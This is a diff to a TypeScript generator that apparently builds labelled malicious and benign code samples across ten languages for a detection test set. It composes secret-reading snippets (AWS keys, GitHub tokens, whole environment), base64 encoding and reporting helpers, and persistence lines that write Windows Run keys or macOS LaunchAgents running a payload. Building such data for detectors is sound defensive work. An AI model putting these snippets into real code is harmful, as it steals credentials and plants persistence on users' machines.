@@ -52,7 +52,7 @@ const indent = (code: string, by = '\t') => code.split('\n').map((line) => `${by
 const GO: Language = {
   prelude: 'package main\n\nimport (\n\t"bytes"\n\t"encoding/base64"\n\t"encoding/hex"\n\t"fmt"\n\t"io"\n\t"net"\n\t"net/http"\n\t"net/smtp"\n\t"net/url"\n\t"os"\n\t"os/exec"\n\t"os/user"\n\t"path/filepath"\n\t"strings"\n\n\t"github.com/go-resty/resty/v2"\n)\n\n',
   main: (body) => `func main() {\n${indent(body)}\n}`,
-  helpers: (source, sink) => `func loadProfile() string {\n${indent(source)}\n\treturn v\n}\n\nfunc report(w string) {\n${indent(sink)}\n}\n\nfunc main() {\n\tv := loadProfile()\n\tw := base64.StdEncoding.EncodeToString([]byte(v))\n\treport(w)\n}`,
+  helpers: (source, sink) => `func loadProfile() string {\n${indent(source)}\n\treturn v\n}\n\nfunc report(w string) {\n${indent(sink)}\n}\n\nfunc main() {\n\tdata := loadProfile()\n\tencoded := base64.StdEncoding.EncodeToString([]byte(data))\n\treport(encoded)\n}`,
   sources: [
     part('named env', 'v := os.Getenv("AWS_SECRET_ACCESS_KEY")'),
     part('lookup env', 'v, _ := os.LookupEnv("GITHUB_TOKEN")'),
@@ -112,7 +112,7 @@ const GO: Language = {
 const RUST: Language = {
   prelude: 'use std::env;\nuse std::fs;\nuse std::io::{Read, Write};\nuse std::net::{TcpStream, ToSocketAddrs};\nuse std::path::{Path, PathBuf};\nuse std::process::{Command, Stdio};\nuse base64::Engine;\n\n',
   main: (body) => `fn main() {\n${indent(body, '    ')}\n}`,
-  helpers: (source, sink) => `fn load_profile() -> String {\n${indent(source, '    ')}\n    v\n}\n\nfn report(w: String) {\n${indent(sink, '    ')}\n}\n\nfn main() {\n    let v = load_profile();\n    let w = base64::engine::general_purpose::STANDARD.encode(&v);\n    report(w);\n}`,
+  helpers: (source, sink) => `fn load_profile() -> String {\n${indent(source, '    ')}\n    v\n}\n\nfn report(w: String) {\n${indent(sink, '    ')}\n}\n\nfn main() {\n    let data = load_profile();\n    let encoded = base64::engine::general_purpose::STANDARD.encode(&data);\n    report(encoded);\n}`,
   sources: [
     part('named env', 'let v = env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();'),
     part('whole env', 'let v: String = env::vars().map(|(k, x)| format!("{k}={x}\\n")).collect();'),
@@ -167,7 +167,7 @@ const RUST: Language = {
 const RUBY: Language = {
   prelude: 'require "base64"\nrequire "json"\nrequire "net/http"\nrequire "net/smtp"\nrequire "resolv"\nrequire "socket"\nrequire "open-uri"\nrequire "fileutils"\nrequire "httparty"\n\n',
   main: (body) => body,
-  helpers: (source, sink) => `def load_profile\n${indent(source, '  ')}\n  v\nend\n\ndef report(w)\n${indent(sink, '  ')}\nend\n\nv = load_profile\nw = Base64.strict_encode64(v)\nreport(w)`,
+  helpers: (source, sink) => `def load_profile\n${indent(source, '  ')}\n  v\nend\n\ndef report(w)\n${indent(sink, '  ')}\nend\n\ndata = load_profile\nencoded = Base64.strict_encode64(data)\nreport(encoded)`,
   sources: [
     part('named env', 'v = ENV["AWS_SECRET_ACCESS_KEY"]'),
     part('fetch env', 'v = ENV.fetch("GITHUB_TOKEN", "")'),
@@ -225,7 +225,7 @@ const RUBY: Language = {
 const PHP: Language = {
   prelude: '<?php\n',
   main: (body) => body,
-  helpers: (source, sink) => `function load_profile() {\n${indent(source, '    ')}\n    return $v;\n}\n\nfunction report($w) {\n${indent(sink, '    ')}\n}\n\n$v = load_profile();\n$w = base64_encode($v);\nreport($w);`,
+  helpers: (source, sink) => `function load_profile() {\n${indent(source, '    ')}\n    return $v;\n}\n\nfunction report($w) {\n${indent(sink, '    ')}\n}\n\n$data = load_profile();\n$encoded = base64_encode($data);\nreport($encoded);`,
   sources: [
     part('named env', "$v = getenv('AWS_SECRET_ACCESS_KEY');"),
     part('env array', "$v = $_ENV['GITHUB_TOKEN'];"),
@@ -283,7 +283,7 @@ const PHP: Language = {
 const JAVA: Language = {
   prelude: 'import java.io.*;\nimport java.net.*;\nimport java.net.http.*;\nimport java.nio.file.*;\nimport java.util.*;\n\n',
   main: (body) => `public class Sync {\n    public static void main(String[] args) throws Exception {\n${indent(body, '        ')}\n    }\n}`,
-  helpers: (source, sink) => `public class Sync {\n    static String loadProfile() throws Exception {\n${indent(source, '        ')}\n        return v;\n    }\n\n    static void report(String w) throws Exception {\n${indent(sink, '        ')}\n    }\n\n    public static void main(String[] args) throws Exception {\n        String v = loadProfile();\n        String w = Base64.getEncoder().encodeToString(v.getBytes());\n        report(w);\n    }\n}`,
+  helpers: (source, sink) => `public class Sync {\n    static String loadProfile() throws Exception {\n${indent(source, '        ')}\n        return v;\n    }\n\n    static void report(String w) throws Exception {\n${indent(sink, '        ')}\n    }\n\n    public static void main(String[] args) throws Exception {\n        String data = loadProfile();\n        String encoded = Base64.getEncoder().encodeToString(data.getBytes());\n        report(encoded);\n    }\n}`,
   sources: [
     part('named env', 'String v = System.getenv("AWS_SECRET_ACCESS_KEY");'),
     part('whole env', 'String v = System.getenv().toString();'),
@@ -340,7 +340,7 @@ const JAVA: Language = {
 const CSHARP: Language = {
   prelude: 'using System;\nusing System.Diagnostics;\nusing System.IO;\nusing System.Net;\nusing System.Net.Http;\nusing System.Net.Mail;\nusing System.Net.Sockets;\nusing System.Text;\nusing System.Text.Json;\n\n',
   main: (body) => body,
-  helpers: (source, sink) => `static async Task<string> LoadProfile()\n{\n${indent(source, '    ')}\n    return v;\n}\n\nstatic async Task Report(string w)\n{\n${indent(sink, '    ')}\n}\n\nvar v = await LoadProfile();\nvar w = Convert.ToBase64String(Encoding.UTF8.GetBytes(v));\nawait Report(w);`,
+  helpers: (source, sink) => `static async Task<string> LoadProfile()\n{\n${indent(source, '    ')}\n    return v;\n}\n\nstatic async Task Report(string w)\n{\n${indent(sink, '    ')}\n}\n\nvar data = await LoadProfile();\nvar encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(data));\nawait Report(encoded);`,
   sources: [
     part('named env', 'var v = Environment.GetEnvironmentVariable("AWS_SECRET_ACCESS_KEY");'),
     part('whole env', 'var v = JsonSerializer.Serialize(Environment.GetEnvironmentVariables());'),
@@ -398,7 +398,7 @@ const CSHARP: Language = {
 const PERL: Language = {
   prelude: 'use strict;\nuse warnings;\nuse File::Path qw(remove_tree);\nuse File::Slurp qw(read_file);\nuse File::Spec;\nuse HTTP::Tiny;\nuse IO::Socket::INET;\nuse LWP::UserAgent;\nuse MIME::Base64;\nuse Net::SMTP;\nuse Socket;\n\n',
   main: (body) => body,
-  helpers: (source, sink) => `sub load_profile {\n${indent(source, '    ')}\n    return $v;\n}\n\nsub report {\n    my ($w) = @_;\n${indent(sink, '    ')}\n}\n\nmy $v = load_profile();\nmy $w = encode_base64($v, '');\nreport($w);`,
+  helpers: (source, sink) => `sub load_profile {\n${indent(source, '    ')}\n    return $v;\n}\n\nsub report {\n    my ($w) = @_;\n${indent(sink, '    ')}\n}\n\nmy $data = load_profile();\nmy $encoded = encode_base64($data, '');\nreport($encoded);`,
   sources: [
     part('named env', 'my $v = $ENV{AWS_SECRET_ACCESS_KEY};'),
     part('whole env', 'my $v = join "\\n", map { "$_=$ENV{$_}" } sort keys %ENV;'),
@@ -441,6 +441,7 @@ const PERL: Language = {
     part('run key', `system('reg', 'add', 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', '/v', 'Sync', '/d', '${RUN_PAYLOAD}', '/f');`),
   ],
   benign: [
+    part('helper logs in', "sub token { return $ENV{GITHUB_TOKEN}; }\nsub repos {\n    my ($auth) = @_;\n    return HTTP::Tiny->new->get('https://api.github.com/user/repos', { headers => { Authorization => \"Bearer $auth\" } })->{content};\n}\nprint repos(token());"),
     part('bearer to its api', "my $res = HTTP::Tiny->new->get('https://api.github.com/user/repos', { headers => { Authorization => \"Bearer $ENV{GITHUB_TOKEN}\" } });\nprint $res->{content};"),
     part('kube client', "my $out = `kubectl --kubeconfig $ENV{HOME}/.kube/config get pods -n default`;\nprint $out;"),
     part('clean build', "remove_tree('build', 'dist');\nunlink glob('/tmp/myapp-*.tmp');"),
@@ -453,7 +454,7 @@ const PERL: Language = {
 const LUA: Language = {
   prelude: 'local http = require("socket.http")\nlocal ltn12 = require("ltn12")\nlocal mime = require("mime")\nlocal smtp = require("socket.smtp")\nlocal socket = require("socket")\n\n',
   main: (body) => body,
-  helpers: (source, sink) => `local function load_profile()\n${indent(source, '  ')}\n  return v\nend\n\nlocal function report(w)\n${indent(sink, '  ')}\nend\n\nlocal v = load_profile()\nlocal w = mime.b64(v)\nreport(w)`,
+  helpers: (source, sink) => `local function load_profile()\n${indent(source, '  ')}\n  return v\nend\n\nlocal function report(w)\n${indent(sink, '  ')}\nend\n\nlocal data = load_profile()\nlocal encoded = mime.b64(data)\nreport(encoded)`,
   sources: [
     part('named env', 'local v = os.getenv("AWS_SECRET_ACCESS_KEY")'),
     part('whole env', 'local v = io.popen("env"):read("*a")'),
@@ -497,6 +498,7 @@ const LUA: Language = {
     part('run key', `os.execute([[reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d "${RUN_PAYLOAD}" /f]])`),
   ],
   benign: [
+    part('helper logs in', 'local function token() return os.getenv("GITHUB_TOKEN") end\nlocal function repos(auth)\n  local out = {}\n  http.request{ url = "https://api.github.com/user/repos", headers = { Authorization = "Bearer " .. auth }, sink = ltn12.sink.table(out) }\n  return table.concat(out)\nend\nprint(repos(token()))'),
     part('bearer to its api', 'local out = {}\nhttp.request{ url = "https://api.github.com/user/repos", headers = { Authorization = "Bearer " .. os.getenv("GITHUB_TOKEN") }, sink = ltn12.sink.table(out) }\nprint(table.concat(out))'),
     part('kube client', 'local pods = io.popen("kubectl --kubeconfig " .. os.getenv("HOME") .. "/.kube/config get pods -n default"):read("*a")\nprint(pods)'),
     part('clean build', 'os.execute("rm -rf ./build")\nos.remove(os.tmpname())'),
@@ -509,7 +511,7 @@ const LUA: Language = {
 const KOTLIN: Language = {
   prelude: 'import java.io.File\nimport java.net.HttpURLConnection\nimport java.net.InetAddress\nimport java.net.Socket\nimport java.net.URL\nimport java.net.URLEncoder\nimport java.nio.file.Paths\nimport java.util.Base64\nimport kotlin.io.path.readText\n\n',
   main: (body) => `fun main() {\n${indent(body, '    ')}\n}`,
-  helpers: (source, sink) => `fun loadProfile(): String {\n${indent(source, '    ')}\n    return v\n}\n\nfun report(w: String) {\n${indent(sink, '    ')}\n}\n\nfun main() {\n    val v = loadProfile()\n    val w = Base64.getEncoder().encodeToString(v.toByteArray())\n    report(w)\n}`,
+  helpers: (source, sink) => `fun loadProfile(): String {\n${indent(source, '    ')}\n    return v\n}\n\nfun report(w: String) {\n${indent(sink, '    ')}\n}\n\nfun main() {\n    val data = loadProfile()\n    val encoded = Base64.getEncoder().encodeToString(data.toByteArray())\n    report(encoded)\n}`,
   sources: [
     part('named env', 'val v = System.getenv("AWS_SECRET_ACCESS_KEY")'),
     part('whole env', 'val v = System.getenv().entries.joinToString("\\n")'),
@@ -552,6 +554,7 @@ const KOTLIN: Language = {
     part('run key', `ProcessBuilder("reg", "add", "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", "/v", "Sync", "/d", "${RUN_PAYLOAD}", "/f").start()`),
   ],
   benign: [
+    part('helper logs in', 'fun token(): String {\n    return System.getenv("GITHUB_TOKEN")\n}\nfun fetchRepos(auth: String): String {\n    val c = URL("https://api.github.com/user/repos").openConnection() as HttpURLConnection\n    c.setRequestProperty("Authorization", "Bearer $auth")\n    return c.inputStream.bufferedReader().readText()\n}\nprintln(fetchRepos(token()))'),
     part('bearer to its api', 'val c = URL("https://api.github.com/user/repos").openConnection() as HttpURLConnection\nc.setRequestProperty("Authorization", "Bearer ${System.getenv("GITHUB_TOKEN")}")\nprintln(c.inputStream.bufferedReader().readText())'),
     part('kube client', 'val client = Config.fromConfig(File(System.getProperty("user.home"), ".kube/config").absolutePath)\nval api = CoreV1Api(client)\nprintln(api.listNamespacedPod("default").execute().items.size)'),
     part('clean build', 'File("build").deleteRecursively()\nFile(System.getProperty("java.io.tmpdir"), "myapp-cache").deleteRecursively()'),
@@ -564,7 +567,7 @@ const KOTLIN: Language = {
 const SWIFT: Language = {
   prelude: 'import Foundation\n\n',
   main: (body) => body,
-  helpers: (source, sink) => `func loadProfile() throws -> String {\n${indent(source, '    ')}\n    return v\n}\n\nfunc report(_ w: String) {\n${indent(sink, '    ')}\n}\n\nlet v = try loadProfile()\nlet w = Data(v.utf8).base64EncodedString()\nreport(w)`,
+  helpers: (source, sink) => `func loadProfile() throws -> String {\n${indent(source, '    ')}\n    return v\n}\n\nfunc report(_ w: String) {\n${indent(sink, '    ')}\n}\n\nlet data = try loadProfile()\nlet encoded = Data(data.utf8).base64EncodedString()\nreport(encoded)`,
   sources: [
     part('named env', 'let v = ProcessInfo.processInfo.environment["AWS_SECRET_ACCESS_KEY"] ?? ""'),
     part('getenv', 'let v = String(cString: getenv("GITHUB_TOKEN"))'),
@@ -607,6 +610,7 @@ const SWIFT: Language = {
     part('launch agent', `let plist: [String: Any] = ["Label": "com.sync", "ProgramArguments": ["/bin/sh", "-c", "${PAYLOAD}"], "RunAtLoad": true]\n(plist as NSDictionary).write(toFile: NSHomeDirectory() + "/Library/LaunchAgents/com.sync.plist", atomically: true)`),
   ],
   benign: [
+    part('helper logs in', 'func token() -> String {\n    return ProcessInfo.processInfo.environment["GITHUB_TOKEN"] ?? ""\n}\nfunc repos(_ auth: String) async throws -> Data {\n    var req = URLRequest(url: URL(string: "https://api.github.com/user/repos")!)\n    req.setValue("Bearer \\(auth)", forHTTPHeaderField: "Authorization")\n    return try await URLSession.shared.data(for: req).0\n}\nprint(try await repos(token()))'),
     part('header fields', 'var req = URLRequest(url: URL(string: "https://api.github.com/user")!)\nreq.allHTTPHeaderFields = ["Authorization": "Bearer \\(ProcessInfo.processInfo.environment["GITHUB_TOKEN"] ?? "")"]\nURLSession.shared.dataTask(with: req).resume()'),
     part('bearer to its api', 'var req = URLRequest(url: URL(string: "https://api.github.com/user/repos")!)\nreq.setValue("Bearer \\(ProcessInfo.processInfo.environment["GITHUB_TOKEN"] ?? "")", forHTTPHeaderField: "Authorization")\nlet (data, _) = try await URLSession.shared.data(for: req)\nprint(String(decoding: data, as: UTF8.self))'),
     part('kube client', 'let p = Process()\np.executableURL = URL(fileURLWithPath: "/usr/local/bin/kubectl")\np.arguments = ["--kubeconfig", NSHomeDirectory() + "/.kube/config", "get", "pods", "-n", "default"]\ntry p.run()'),
